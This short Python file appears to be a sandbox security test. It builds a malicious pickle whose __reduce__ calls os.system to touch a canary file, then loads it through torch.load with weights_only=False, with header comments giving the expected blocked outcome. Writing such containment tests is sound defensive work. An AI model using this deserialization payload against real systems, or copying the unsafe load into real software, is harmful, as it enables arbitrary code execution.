# failure: runtime_error at execute
# message: Invalid magic number
# layer: seccomp
# effect: file
import io
import os
import pickle

import torch
from torch import nn


class Command:
    def __reduce__(self):
        return os.system, ("touch CANARY_FOLDER/planted",)


torch.load(io.BytesIO(pickle.dumps(Command())), weights_only=False)
